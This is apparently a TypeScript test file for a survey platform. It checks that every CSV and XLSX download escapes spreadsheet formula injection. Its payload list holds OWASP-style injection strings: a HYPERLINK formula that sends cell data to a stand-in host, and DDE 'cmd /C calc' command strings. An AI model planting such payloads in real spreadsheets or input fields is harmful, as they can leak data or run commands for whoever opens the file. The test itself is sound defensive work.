/**
 * Spreadsheet (CSV) injection: text a citizen types, or a name staff enter, must never reach a
 * downloaded CSV or XLSX as something a spreadsheet runs. Hostile text is stored everywhere a
 * download can show it; then every GET route the app has is fetched (a new download route is
 * covered without editing this test) and every cell of every CSV or XLSX checked, by a rule of
 * its own: no text cell starts with = + - @ tab or a line break unless it is a plain number, no
 * cell is a formula, and numbers stay numbers.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it } from 'vitest';
import { listLinksOfRound } from '../../db/queries/links.ts';
import { findRoundByCode } from '../../db/queries/rounds.ts';
import { localities, offices, surveyRounds } from '../../db/schema/index.ts';
import { DEMO_ROUND_CODE } from '../../db/seed/index.ts';
import { useTestApp } from '../support/app.ts';
import { addStaff, logInAs, type Agent } from '../support/staff.ts';
import { distinctAnswers, officeSubmission, plausibleTimes } from '../support/submissions.ts';

const { app, database } = useTestApp();

/** What attackers put in free text (OWASP's examples and their variants). */
const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
/** The test's own oracle (not the module's): what a spreadsheet would run, or skip to run. */
const runnable = (text: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(text) && !PLAIN_NUMBER.test(text);

/** A value for every path parameter a GET route may have; a new name fails the test until it is given one. */
async function parameterValues(): Promise<Record<string, string>> {
  const round = (await findRoundByCode(database().db, DEMO_ROUND_CODE))!;
  const token = (await listLinksOfRound(database().db, round.id))[0].token;
  return { code: DEMO_ROUND_CODE, version: '2024', token, id: '1', serial: '1', province: round.provinceCodes[0] };
}

const QUERIES = ['', '?by=province,district,commune', '?format=csv', '?format=xlsx'];

interface Download {
  url: string;
  kind: 'csv' | 'xlsx';
  cells: Array<{ value: unknown; formula: boolean }>;
}

async function cellsOf(kind: 'csv' | 'xlsx', bytes: Buffer): Promise<Download['cells']> {
  if (kind === 'csv') return (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat().map((value) => ({ value, formula: false }));
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: Download['cells'] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula })));
  }
  return cells;
}

async function everyDownload(agent: Agent): Promise<Download[]> {
  const values = await parameterValues();
  const downloads: Download[] = [];
  for (const route of app().routeCatalogue.filter((r) => r.method === 'GET' && r.url.startsWith('/api/'))) {
    const url = route.url.replace(/:([A-Za-z_]+)/g, (_, name: string) => {
      if (!(name in values)) throw new Error(`give the path parameter "${name}" of ${route.url} a value in this test`);
      return encodeURIComponent(values[name]);
    });
    for (const query of QUERIES) {
      const res = await agent.request({ url: url + query });
      if (res.statusCode !== 200) continue;
      const type = String(res.headers['content-type'] ?? '');
      const kind = /text\/csv/.test(type) ? 'csv' : /spreadsheetml/.test(type) ? 'xlsx' : undefined;
      if (kind) downloads.push({ url: url + query, kind, cells: await cellsOf(kind, res.rawPayload) });
    }
  }
  return downloads;
}

describe('every CSV and XLSX the platform serves', () => {
  let admin: Agent;
  beforeEach(async () => {
    const db = database().db;
    await addStaff(db, 'admin', 'admin');
    admin = await logInAs(app(), 'admin');
    // Names staff enter reach the files too: a round's name, a district's name.
    await db.update(surveyRounds).set({ name: PAYLOADS[0] }).where(eq(surveyRounds.code, DEMO_ROUND_CODE));
    await db.update(localities).set({ name: PAYLOADS[4] }).where(eq(localities.code, '660'));
    await db.update(offices).set({ name: PAYLOADS[1] }).where(eq(offices.code, 'MC-660'));
    const round = (await findRoundByCode(db, DEMO_ROUND_CODE))!;
    const link = (await listLinksOfRound(db, round.id))[0].token;
    for (const [k, payload] of PAYLOADS.entries()) {
      // Distinct, plausibly timed responses: near-identical or implausible ones would be held out of the downloads.
      const { profile, answers } = distinctAnswers(k);
      const res = await app().inject({
        method: 'POST',
        url: '/api/responses',
        payload: { id: randomUUID(), link, profile, answers: { ...answers, comment: payload }, ...plausibleTimes() },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
  });

  it('never holds a cell a spreadsheet would run, while numbers stay numbers', async () => {
    const downloads = await everyDownload(admin);
    const urls = downloads.map((d) => d.url.replace(/\?.*/, ''));
    for (const expected of ['results.csv', 'results.xlsx', 'microdata.csv', 'codebook.csv', 'import-template', 'links.csv', 'offices/template']) {
      expect(
        urls.some((u) => u.endsWith(expected)),
        `${expected} was downloaded`,
      ).toBe(true);
    }
    for (const download of downloads) {
      for (const cell of download.cells) {
        expect(cell.formula, `${download.url}: a formula cell`).toBe(false);
        if (typeof cell.value === 'string') expect(runnable(cell.value), `${download.url}: ${JSON.stringify(cell.value)}`).toBe(false);
      }
    }
    // The hostile text is there, as text: neutralised, not dropped.
    const microdata = downloads.find((d) => d.url.endsWith('microdata.csv'))!;
    const texts = microdata.cells.map((c) => String(c.value));
    // (The survey trims what citizens type, so a leading tab or line break arrives as the formula itself.)
    for (const payload of PAYLOADS) expect(texts).toContain(`'${payload.trim()}`);
    const template = downloads.find((d) => d.url.endsWith('import-template?format=xlsx'))!;
    expect(template.cells.map((c) => c.value)).toContain(`'${PAYLOADS[0]}`);
    // An office's name, as a manager entered or imported it, in the round's links file.
    const links = downloads.find((d) => d.url.endsWith('links.csv'))!;
    expect(links.cells.map((c) => c.value)).toContain(`'${PAYLOADS[1]}`);
    const workbook = downloads.find((d) => d.url.includes('results.xlsx'))!;
    // Figures in the XLSX are numeric cells; negative or not, a number is never quoted.
    expect(workbook.cells.some((c) => typeof c.value === 'number')).toBe(true);
    expect(workbook.cells.some((c) => typeof c.value === 'string' && /^'[+-]?\d/.test(c.value))).toBe(false);
  }, 120_000);
});

describe('a stored name that starts like a formula', () => {
  it('is shown in the results CSV with a leading apostrophe, its figures untouched', async () => {
    const db = database().db;
    await addStaff(db, 'admin', 'admin');
    const admin = await logInAs(app(), 'admin');
    await db.update(localities).set({ name: '-Huyện thử' }).where(eq(localities.code, '660'));
    const round = (await findRoundByCode(db, DEMO_ROUND_CODE))!;
    const link = (await listLinksOfRound(db, round.id))[0].token;
    const { profile, answers } = officeSubmission();
    const posted = await app().inject({ method: 'POST', url: '/api/responses', payload: { id: randomUUID(), link, profile, answers, ...plausibleTimes() } });
    expect(posted.json().status, posted.body).toBe('accepted');
    const res = await admin.request({ url: `/api/rounds/${DEMO_ROUND_CODE}/results.csv?by=district` });
    const rows = parse(res.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
    const district = rows.filter((r) => r.code === '660');
    expect(district.length).toBeGreaterThan(0);
    expect(district.every((r) => r.name === "'-Huyện thử")).toBe(true);
    expect(district.every((r) => r.estimate === '' || PLAIN_NUMBER.test(r.estimate))).toBe(true);
    expect(rowsOfCount(await db.execute(sql`select count(*)::int as n from responses`))).toBe(1);
  });
});

const rowsOfCount = (result: unknown) => Number(((Array.isArray(result) ? result : (result as { rows: unknown[] }).rows) as Array<{ n: number }>)[0].n);
